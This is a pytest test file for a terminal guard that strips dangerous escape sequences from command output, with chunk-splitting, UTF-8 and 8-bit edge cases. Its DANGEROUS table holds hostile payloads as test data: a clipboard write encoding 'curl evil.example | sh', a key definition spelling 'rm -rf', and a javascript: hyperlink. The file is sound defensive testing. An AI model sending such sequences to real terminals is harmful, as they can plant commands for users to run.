"""The terminal guard (broker.cli.terminal_guard): what a command's output may do to the
terminal it is shown on. Each dangerous sequence is dropped, in its 7-bit and 8-bit
forms, wherever a chunk boundary cuts it; each harmless one passes byte for byte; the
state stays bounded whatever the input."""

from __future__ import annotations

import pytest

from broker.cli.render import SafeStream
from broker.cli.terminal_guard import MAX_SEQUENCE, REPLACEMENT, TerminalGuard

# What writes state outside the screen or makes the terminal answer, in every form.
DANGEROUS = {
    "OSC 52 clipboard, BEL": b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "OSC 52 clipboard, ST": b"\x1b]52;c;Y3VybA==\x1b\\",
    "OSC 2 title": b"\x1b]2;T\x07",
    "OSC 0 title, UTF-8": "\x1b]0;本 ✜ Grüße\x07".encode(),
    "OSC 8 hyperlink": b"\x1b]8;;javascript:alert(1)\x1b\\",
    "OSC 11 query": b"\x1b]11;?\x07",
    "OSC 4 query": b"\x1b]4;1;?\x1b\\",
    "OSC 10 query": b"\x1b]10;?\x07",
    "OSC 7 cwd": b"\x1b]7;file:///etc\x07",
    "OSC 1337 file": b"\x1b]1337;File=inline=1:AAAA\x07",
    "DECRQSS": b"\x1bP$qm\x1b\\",
    "XTGETTCAP": b"\x1bP+q544e\x1b\\",
    "DECUDK": b"\x1bP0;1|17/726d202d7266\x1b\\",
    "tmux passthrough": b"\x1bPtmux;\x1b\x1b]52;c;eA==\x07",
    "APC kitty graphics": b"\x1b_Ga=q,i=1;AAAA\x1b\\",
    "PM": b"\x1b^private\x1b\\",
    "SOS": b"\x1bXstring\x1b\\",
    "DA1": b"\x1b[c",
    "DA1 with 0": b"\x1b[0c",
    "DA2": b"\x1b[>c",
    "DA3": b"\x1b[=c",
    "DSR": b"\x1b[5n",
    "CPR": b"\x1b[6n",
    "DECXCPR": b"\x1b[?6n",
    "title report": b"\x1b[21t",
    "window resize": b"\x1b[8;100;100t",
    "title pop": b"\x1b[23;0t",
    "DECRQM": b"\x1b[2026$p",
    "DECRQM private": b"\x1b[?1049$p",
    "DECREQTPARM": b"\x1b[x",
    "DECRQCRA": b"\x1b[1;1;1;1;1;1*y",
    "XTVERSION": b"\x1b[>q",
    "XTQMODKEYS": b"\x1b[?4m",
    "kitty keyboard query": b"\x1b[?u",
    "media copy": b"\x1b[5i",
    "DECID": b"\x1bZ",
    "KAM: keys locked": b"\x1b[2h",
    "SRM: local echo": b"\x1b[12l",
    "LNM among others": b"\x1b[4;20h",
    "DOCS: out of UTF-8": b"\x1b%@",
    "ENQ": b"\x05",
    "C1 CSI DA": b"\x9bc",
    "C1 CSI CPR": b"\x9b6n",
    "C1 OSC 52": b"\x9d52;c;eA==\x07",
    "C1 OSC, ST": b"\x9d2;T\x1b\\",
    "C1 DCS": b"\x90$qm\x1b\\",
    "C1 SOS": b"\x98x\x1b\\",
    "C1 PM": b"\x9ex\x1b\\",
    "C1 APC": b"\x9fGa=q\x1b\\",
    "C1 DECID": b"\x9a",
    "UTF-8 C1 CSI": b"\xc2\x9b6n",
    "UTF-8 C1 OSC 52": b"\xc2\x9d52;c;eA==\xc2\x9c",
    "UTF-8 C1 DCS": b"\xc2\x90$qm\x1b\\",
    "UTF-8 C1 APC": b"\xc2\x9fx\x07\xc2\x9c",
}

# What draws on the screen: passed byte for byte.
HARMLESS = {
    "SGR": b"\x1b[1;31mred\x1b[0m",
    "SGR reset": b"\x1b[m",
    "SGR 256 colours": b"\x1b[38;5;208m",
    "SGR 24-bit": b"\x1b[38;2;255;128;0;48;2;0;0;0m",
    "SGR colon form": b"\x1b[4:3m\x1b[58:2::255:0:0m",
    "cursor moves": b"\x1b[10;20H\x1b[A\x1b[3B\x1b[C\x1b[2D\x1b[5G\x1b[7d",
    "erase": b"\x1b[K\x1b[2K\x1b[J\x1b[2J\x1b[3J",
    "scroll region": b"\x1b[1;20r\x1b[S\x1b[2T",
    "insert, delete": b"\x1b[4@\x1b[2P\x1b[L\x1b[M\x1b[X",
    "insert mode": b"\x1b[4h\x1b[4l",
    "save, restore cursor": b"\x1b7\x1b8\x1b[s\x1b[u",
    "alternate screen, cursor visibility": b"\x1b[?1049h\x1b[?25l\x1b[?25h\x1b[?1049l",
    "mouse, bracketed paste, keys": b"\x1b[?1000h\x1b[?1006h\x1b[?2004h\x1b[?1h\x1b=",
    "cursor style": b"\x1b[2 q",
    "modifyOtherKeys": b"\x1b[>4;2m",
    "kitty keyboard push, pop": b"\x1b[>1u\x1b[<u",
    "character sets": b"\x1b(B\x1b(0lqk\x1b(B",
    "index, reverse index": b"\x1bD\x1bM\x1bE",
    "full reset": b"\x1bc",
    "soft reset": b"\x1b[!p",
    "fill rectangle": b"\x1b[65;1;1;2;2$x",
    "lone ST": b"\x1b\\",
    "C0 controls": b"a\tb\r\nc\x08d\x07e\x0ef\x0fg\x00h\x7f",
    "CAN, SUB": b"\x18\x1a",
    "C1 CSI SGR": b"\x9b31m",
    "UTF-8 C1 NEL": b"\xc2\x85",
    "UTF-8 text": "Grüße, 世界! Привет, мир. ✓ ✜ 本 р ð𝄞".encode(),
    "UTF-8 at the edges": "\u00a0\u07ff\u0800\ud7ff\ue000\uffff\U00010000\U0010ffff".encode(),
    "progress bar": b"\r[#####     ] 50%\r\x1b[K[##########] 100%\n",
}


def run(chunks, **kw) -> bytes:
    guard = TerminalGuard(**kw)
    out = b"".join(guard.feed(chunk) for chunk in chunks)
    return out + guard.flush()


def cuts(data: bytes):
    """``data`` in two chunks at every position, and one byte at a time."""
    for at in range(len(data) + 1):
        yield [data[:at], data[at:]]
    yield [data[i:i + 1] for i in range(len(data))]


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_dangerous_sequence_is_dropped_wherever_the_chunks_cut_it(name):
    data = b"before " + DANGEROUS[name] + b" after"
    assert run([b"before " + DANGEROUS[name]]) != b"before " + DANGEROUS[name]  # not vacuous
    for chunks in cuts(data):
        assert run(chunks) == b"before  after", (name, [len(c) for c in chunks])


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_sequence_passes_byte_for_byte_wherever_the_chunks_cut_it(name):
    data = b"x" + HARMLESS[name] + b"y"
    for chunks in cuts(data):
        assert run(chunks) == data, (name, [len(c) for c in chunks])


def test_dangerous_and_harmless_mixed_leave_exactly_the_harmless():
    data = b"".join(HARMLESS[h] + DANGEROUS[d] for h, d in zip(HARMLESS, DANGEROUS))
    expected = b"".join(HARMLESS[h] for h, _ in zip(HARMLESS, DANGEROUS))
    for size in (1, 2, 3, 7, 64, 4096, len(data)):
        assert run([data[i:i + size] for i in range(0, len(data), size)]) == expected


def test_utf8_text_is_untouched_even_with_c1_bytes_inside_its_characters():
    # 本 = e6 9c ac, ✜ = e2 9c 9c, р = d1 80, ð = c3 b0: 0x80-0x9f inside characters are not C1.
    data = ("本✜р" * 50 + "ð𝄞\n").encode() * 20
    for size in (1, 2, 3, 5, 4096):
        assert run([data[i:i + size] for i in range(0, len(data), size)]) == data


def test_a_byte_that_is_not_utf8_shows_as_the_replacement_character():
    # As a UTF-8 terminal shows it; an overlong ESC (c0 9b) never becomes a control.
    assert run([b"a\xffb"]) == b"a" + REPLACEMENT + b"b"
    assert run([b"a\xc0\x9b6n"]) == b"a" + REPLACEMENT  # c0: stray; 9b 6 n: a C1 DSR, dropped
    assert run([b"\xe0\x80\xaf"]) == REPLACEMENT * 3
    assert run([b"\x85"]) == REPLACEMENT  # a lone C1 byte: no character, and nothing that answers


def test_an_unfinished_stream_ends_clean():
    # A character cut by the end of the stream shows as U+FFFD; a sequence is dropped, so
    # the terminal is never left inside one (where it would swallow what comes next).
    assert run([b"ok \xe6\x9c"]) == b"ok " + REPLACEMENT
    assert run([b"ok \x1b[31"]) == b"ok "
    assert run([b"ok \x1b]52;c;eA=="]) == b"ok "
    assert run([b"ok \x1b"]) == b"ok "


def test_an_endless_sequence_keeps_the_state_bounded():
    # A CSI that never ends: at most MAX_SEQUENCE bytes held, then dropped whole.
    guard = TerminalGuard()
    assert guard.feed(b"a\x1b[") == b"a"
    for _ in range(1000):
        assert guard.feed(b"1;" * 512) == b""
        assert guard.held <= MAX_SEQUENCE
    assert guard.feed(b"mtext") == b"text"  # its final byte ends it; text is text again
    # A string (OSC, DCS...) is dropped as it comes: nothing is held while it goes on.
    for start in (b"\x1b]52;c;", b"\x1bP", b"\x1b_", b"\x9d"):
        guard = TerminalGuard()
        assert guard.feed(b"a" + start) == b"a"
        for _ in range(1000):
            assert guard.feed(b"QUFB" * 256) == b""
            assert guard.held == 0
        assert guard.feed(b"\x1b\\text") == b"text"


def test_a_string_is_ended_or_aborted_as_a_terminal_would():
    assert run([b"\x1b]0;t\x1b\\x"]) == b"x"        # ST
    assert run([b"\x1b]0;t\xc2\x9cx"]) == b"x"      # C1 ST in UTF-8
    assert run([b"\x1b]0;t\x18x"]) == b"\x18x"      # CAN aborts it (and is a control)
    assert run([b"\x1b]0;t\x1b[31mx"]) == b"\x1b[31mx"  # an ESC that starts something else
    assert run([b"\x1bPq#0;2;0;0;0\x07more\x1b\\x"]) == b"x"  # BEL does not end a DCS
    # To a UTF-8 terminal a lone 0x9c is no ST (it may be the last byte of "本"): the
    # string goes on; to an 8-bit one it is.
    assert run([b"\x1b]0;t\x9cmore\x07x"]) == b"x"
    assert run([b"\x1b]0;t\x9cmore\x07x"], utf8=False) == b"more\x07x"


def test_a_malformed_or_interrupted_sequence_never_reaches_the_terminal():
    assert run([b"\x1b[1?6n"]) == b""           # a marker out of place: dropped, as a terminal ignores it
    assert run([b"\x1b[2?h\x1b[?25h"]) == b"\x1b[?25h"  # not taken for a private mode (nor KAM)
    assert run([b"\x1b[6\nn"]) == b"\nn"        # cut short by a control: it never began
    assert run([b"\x1b\x1b\x1b[31mx"]) == b"\x1b[31mx"
    assert run([b"\x1b" * 10000 + b"[6n"]) == b""


def test_an_8bit_terminal_takes_every_byte_0x80_to_0x9f_as_a_control():
    # There "\xc4\x9b" is not "ě" but "Ä" and CSI.
    assert run([b"\xc4\x9b6n\xe9"], utf8=False) == b"\xc4\xe9"
    assert run([b"\xc4\x9b31m\xe9"], utf8=False) == b"\xc4\x9b31m\xe9"
    assert run([b"\x9d52;c;eA==\x9cx"], utf8=False) == b"x"
    assert run([b"\x85\x90$qm\x9cx"], utf8=False) == b"\x85x"
    assert run(["ě".encode()]) == "ě".encode()  # the same bytes, to a UTF-8 terminal: a letter


def test_the_renderer_of_exec_and_attach_shows_every_dangerous_sequence_inert():
    # sluice exec and sluice attach escape every control character (broker.cli.render):
    # what the guard drops, they show as text, the 8-bit forms included.
    for name, data in DANGEROUS.items():
        stream = SafeStream()
        shown = stream.feed(b"a" + data + b"b") + stream.flush()
        text = shown.decode()
        assert not any(0x00 <= ord(c) < 0x20 and c not in "\t\n" or 0x7F <= ord(c) <= 0x9F for c in text), name


def test_any_mix_is_judged_the_same_however_it_is_cut_and_what_passes_passes_again():
    # Seeded mixes of every sample, text, lone ESC/C1/lead bytes and random bytes: the
    # output does not depend on the chunking, and the guard passes its own output whole
    # (all it writes is text and complete harmless sequences: a terminal parses it as we did).
    import random

    rng = random.Random(21)
    pieces = [*DANGEROUS.values(), *HARMLESS.values(), b"text ", "é本\n".encode(), b"\x1b", b"\x1b[",
              b"\x9b", b"\xc2", b"\xe6\x9c", b"\x07", b"\x1b\\", b"\x18", b"9;1", b"m"]
    for _ in range(300):
        data = b"".join(rng.choice(pieces) if rng.random() < 0.9 else rng.randbytes(rng.randint(1, 8))
                        for _ in range(rng.randint(1, 40)))
        whole = run([data])
        size = rng.randint(1, 17)
        assert run([data[i:i + size] for i in range(0, len(data), size)]) == whole, data
        assert run([whole]) == whole, data
        for name, sequence in DANGEROUS.items():
            # (A lone C1 byte may be the last byte of a character a piece before began.)
            if len(sequence) > 2 and not 0x80 <= sequence[0] <= 0x9F:
                assert sequence not in whole, (name, data)
